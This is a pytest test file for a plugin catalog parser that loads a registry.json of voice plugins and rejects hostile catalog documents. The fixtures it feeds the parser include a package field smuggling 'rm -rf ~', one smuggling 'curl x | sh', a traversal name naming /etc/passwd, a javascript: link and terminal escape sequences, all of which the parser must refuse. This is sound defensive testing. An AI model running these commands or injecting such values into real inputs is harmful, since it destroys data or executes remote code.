"""The catalog: the shipped registry.json, loading by name through it, and hostile input."""

from __future__ import annotations

import json
import platform
import sys
from pathlib import Path

import pytest

from fastrtc_registry.catalog import (
    MAX_CATALOG_BYTES,
    SCHEMA_VERSION,
    embedded_catalog,
    embedded_catalog_path,
    load_catalog,
    parse_catalog,
)
from fastrtc_registry.errors import CatalogError, PluginNotInstalledError

REPO = Path(__file__).resolve().parent.parent


def _doc(*plugins: dict, removed: list | None = None, version: int = SCHEMA_VERSION) -> bytes:
    return json.dumps(
        {"schema_version": version, "plugins": list(plugins), "removed": removed or []}
    ).encode()


VAD = {"name": "energy", "kind": "vad", "package": "fastrtc-energy-vad"}


def test_embedded_catalog_is_the_repo_file() -> None:
    assert embedded_catalog_path().read_bytes() == (REPO / "registry.json").read_bytes()


def test_embedded_catalog_lists_the_published_plugins_and_builtins() -> None:
    catalog = embedded_catalog()
    (humaware,) = catalog.find("HumAware", "vad")
    assert humaware.package == "humaware-vad"
    assert humaware.object == "humaware_vad:HumAwareVADModel"
    assert humaware.requires_python == ">=3.12"
    assert humaware.offline is False
    assert humaware.tags == ("vad-model",)
    assert humaware.repository == "https://github.com/CuriousMonkey7/HumAwareVad"
    assert humaware.install_command == "pip install humaware-vad"
    (walkie,) = catalog.find("walkie_talkie", "turn-taking")
    assert walkie.object == "fastrtc_walkie_talkie:WalkieTalkie"
    assert walkie.package == "fastrtc-walkie-talkie"
    assert "over" in walkie.description
    assert walkie.demo is not None and walkie.demo.endswith("scratch.py")
    builtins = {(e.kind, e.name) for e in catalog.entries if e.builtin}
    assert builtins >= {
        ("vad", "silero"),
        ("turn-taking", "pause"),
        ("turn-taking", "stopwords"),
        ("turn-taking", "smart-turn"),
    }
    assert {e.package for e in catalog.entries if e.builtin} == {"fastrtc-registry"}
    # Records come from 'registry update --validate' runs: each names its suite, Python and
    # date, and humaware (Requires-Python >=3.12) is never recorded as having run on older ones.
    for entry in catalog.entries:
        record = entry.validation
        if record is None:
            continue
        assert record.suite and record.python and record.date, entry.name
        if entry.name == "humaware" and tuple(map(int, record.python.split(".")[:2])) < (3, 12):
            assert record.status == "unsupported-python" and record.passed == 0
    assert catalog.warnings == ()


def test_load_catalog_reads_a_local_path(legacy_catalog: Path) -> None:
    catalog = load_catalog(network=False)
    assert catalog.source == str(legacy_catalog)
    assert [e.name for e in catalog.entries] == ["legacy", "uninstalled"]


def test_load_catalog_reads_a_file_url(
    monkeypatch: pytest.MonkeyPatch, legacy_catalog: Path
) -> None:
    monkeypatch.setenv("FASTRTC_PLUGINS_REGISTRY_URL", legacy_catalog.as_uri())
    assert [e.name for e in load_catalog(network=False).entries] == ["legacy", "uninstalled"]


def test_load_catalog_refuses_other_schemes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FASTRTC_PLUGINS_REGISTRY_URL", "ftp://127.0.0.1/registry.json")
    with pytest.raises(CatalogError, match="use an http"):
        load_catalog(network=False)


def test_load_vad_through_the_catalog(legacy_catalog: Path, in_env: object) -> None:
    """fastrtc-legacy-vad declares no entry point; the catalog's object path loads it."""
    from fastrtc_registry import load_vad
    from fastrtc_registry.discovery import installed_plugins

    (record,) = [p for p in installed_plugins("vad") if p.name == "legacy"]
    assert (record.source, record.package, record.object) == (
        "catalog",
        "fastrtc-legacy-vad",
        "fastrtc_legacy_vad:LegacyVAD",
    )
    model = load_vad("legacy")
    assert type(model).__module__ == "fastrtc_legacy_vad"
    assert type(model).__name__ == "LegacyVAD"
    import numpy as np

    duration, chunks = model.vad((16000, np.zeros(1600, dtype=np.float32)), None)
    assert (duration, chunks) == (0.0, [])


def test_not_installed_error_gives_install_command_and_python_mismatch(
    legacy_catalog: Path, in_env: object
) -> None:
    from fastrtc_registry import load_vad

    with pytest.raises(PluginNotInstalledError) as caught:
        load_vad("uninstalled")
    message = str(caught.value)
    assert "run 'pip install fastrtc-not-installed-vad'" in message
    assert f"requires Python >=3.99 and this is Python {platform.python_version()}" in message
    assert caught.value.install == "pip install fastrtc-not-installed-vad"
    assert "\n" not in message


def test_published_plugins_not_installed_name_their_package() -> None:
    from fastrtc_registry import load_turn_taking, load_vad

    with pytest.raises(PluginNotInstalledError) as caught:
        load_vad("humaware")
    assert "run 'pip install humaware-vad'" in str(caught.value)
    too_old = sys.version_info < (3, 12)
    assert ("requires Python >=3.12" in str(caught.value)) is too_old
    with pytest.raises(PluginNotInstalledError, match=r"pip install fastrtc-walkie-talkie"):
        load_turn_taking("walkie-talkie")


def test_list_shows_catalog_plugins_through_the_cli(good_env, legacy_catalog: Path) -> None:
    proc = good_env.run("list", "--json", env={"FASTRTC_PLUGINS_REGISTRY_URL": str(legacy_catalog)})
    assert proc.returncode == 0, proc.stderr
    rows = {(r["kind"], r["name"]): r for r in json.loads(proc.stdout)}
    assert rows[("vad", "legacy")]["source"] == "catalog"
    assert ("vad", "uninstalled") not in rows


# Each: (document bytes, text the one-line error must contain).
BAD_DOCUMENTS = {
    "not-json": (b"{plugins: []}", "not valid JSON"),
    "invalid-utf8": (b'{"schema_version": 1, "plugins": [{"name": "\xff"}]}', "not UTF-8"),
    "top-level-list": (b"[]", "top level must be a JSON object"),
    "schema-version-string": (b'{"schema_version": "1", "plugins": []}', "/schema_version"),
    "plugins-not-a-list": (
        b'{"schema_version": 1, "plugins": {}}',
        "/plugins: the field 'plugins' must be a list",
    ),
    "wrong-field-type": (_doc({**VAD, "name": 7}), "/plugins/0/name"),
    "unknown-kind": (_doc({**VAD, "kind": "stt"}), "/plugins/0/kind"),
    "duplicate-names": (
        _doc(VAD, {**VAD, "name": "Energy", "package": "other"}),
        "duplicate vad plugin name 'energy'",
    ),
    "path-like-name": (_doc({**VAD, "name": "../../etc/passwd"}), "is not a valid plugin name"),
    "shell-in-package": (_doc({**VAD, "package": "x; rm -rf ~"}), "/plugins/0/package"),
    "javascript-link": (_doc({**VAD, "demo": "javascript:alert(1)"}), "not an http(s) URL"),
    "bad-object": (_doc({**VAD, "object": "a/b.py"}), "not a 'module:attr' reference"),
    "nan": (b'{"schema_version": 1, "plugins": [], "x": NaN}', "NaN is not valid JSON"),
    "deep-nesting": (
        b'{"schema_version": 1, "plugins": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "nested too deeply",
    ),
    "huge": (
        b'{"schema_version": 1, "plugins": [], "pad": "' + b"x" * MAX_CATALOG_BYTES + b'"}',
        "limit for a catalog",
    ),
    "listed-and-removed": (
        _doc(VAD, removed=[{"package": "fastrtc-energy-vad", "reason": "unsafe"}]),
        "listed or removed",
    ),
}


@pytest.mark.parametrize(("data", "expected"), BAD_DOCUMENTS.values(), ids=BAD_DOCUMENTS.keys())
def test_hostile_documents_give_one_clear_line(data: bytes, expected: str) -> None:
    with pytest.raises(CatalogError) as caught:
        parse_catalog(data, source="hosted.json")
    message = str(caught.value)
    assert expected in message
    assert message.startswith("hosted.json: ")
    assert "\n" not in message


def test_every_problem_is_kept_on_the_error() -> None:
    data = _doc({**VAD, "name": "a/b"}, {**VAD, "name": "ok", "repository": "ftp://x"})
    with pytest.raises(CatalogError) as caught:
        parse_catalog(data)
    assert "(and 1 more; run 'fastrtc-plugins registry check" in str(caught.value)
    assert [p.split(":")[0] for p in caught.value.problems] == [
        "/plugins/0/name",
        "/plugins/1/repository",
    ]


def test_newer_schema_version_warns_and_reads_what_it_can() -> None:
    data = _doc(
        {**VAD, "colour": "blue"},  # a field this version does not know: ignored
        {"name": "mystery", "kind": "speech-to-text", "package": "fastrtc-stt"},
        {**VAD, "name": "../evil"},
        version=SCHEMA_VERSION + 1,
    )
    catalog = parse_catalog(data, source="future.json")
    assert [e.name for e in catalog.entries] == ["energy"]
    assert "schema_version 2, newer than this tool knows (1)" in catalog.warnings[0]
    assert "pip install -U fastrtc-registry" in catalog.warnings[0]
    skipped = " ".join(catalog.warnings[1:])
    assert "/plugins/1/kind" in skipped
    assert "/plugins/2/name" in skipped


def test_local_file_over_the_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "registry.json"
    big.write_bytes(b" " * (MAX_CATALOG_BYTES + 10) + b"{}")
    monkeypatch.setenv("FASTRTC_PLUGINS_REGISTRY_URL", str(big))
    with pytest.raises(CatalogError, match="limit for a catalog"):
        load_catalog(network=False)


def test_cli_reports_a_hostile_catalog_in_one_line(good_env, tmp_path: Path) -> None:
    bad = tmp_path / "registry.json"
    bad.write_bytes(_doc({**VAD, "name": "../../x"}))
    proc = good_env.run("list", env={"FASTRTC_PLUGINS_REGISTRY_URL": str(bad)})
    assert proc.returncode == 1
    assert proc.stderr.startswith("error: ")
    assert "/plugins/0/name" in proc.stderr and "is not a valid plugin name" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


HOSTILE_TEXT = {
    "escape-summary": ({**VAD, "summary": "x\x1b[2J"}, "/plugins/0/summary"),
    "bidi-description": ({**VAD, "description": "a\u202eb"}, "/plugins/0/description"),
    "shell-package": ({**VAD, "package": "fastrtc-evil; curl x | sh"}, "/plugins/0/package"),
    "url-package": ({**VAD, "package": "fastrtc-x @ http://evil/x.whl"}, "/plugins/0/package"),
    "huge-count": (
        {
            **VAD,
            "validation": {
                "version": "1.0",
                "suite": "0.1.0",
                "fastrtc": "0.0.34",
                "python": "3.11.7",
                "status": "passed",
                "date": "2026-01-01",
                "passed": 10**4000,
            },
        },
        "/plugins/0/validation/passed",
    ),
}


@pytest.mark.parametrize(("entry", "pointer"), HOSTILE_TEXT.values(), ids=HOSTILE_TEXT.keys())
def test_parser_refuses_what_registry_check_refuses(entry: dict, pointer: str) -> None:
    """One rule set: the loader and the linter flag the same spot."""
    from fastrtc_registry.catalog.lint import lint_bytes

    data = _doc(entry)
    with pytest.raises(CatalogError) as caught:
        parse_catalog(data)
    assert [p.split(":")[0] for p in caught.value.problems] == [pointer]
    assert [p.pointer for p in lint_bytes(data, schema=False).problems] == [pointer]
    assert "\x1b" not in str(caught.value) and "\u202e" not in str(caught.value)


def test_every_rule_is_total_on_junk_values() -> None:
    """Whatever a field holds, the parser answers with a CatalogError, never another error."""
    junk = [None, True, 1.5, -1, 10**4000, "", "x" * 10_000, "\x00", [], {}, [1], {"a": 1}]
    fields = [*VAD, "object", "summary", "description", "tags", "repository", "demo"]
    fields += ["requires_python", "offline", "builtin", "validation", "extra"]
    for field in fields:
        for value in junk:
            try:
                parse_catalog(_doc({**VAD, field: value}))
            except CatalogError:
                continue
    record = {"version": "1", "suite": "1", "fastrtc": "1", "python": "3.11", "status": "passed"}
    for field in [*record, "date", "passed", "reason"]:
        for value in junk:
            try:
                parse_catalog(_doc({**VAD, "validation": {**record, field: value}}))
            except CatalogError:
                continue
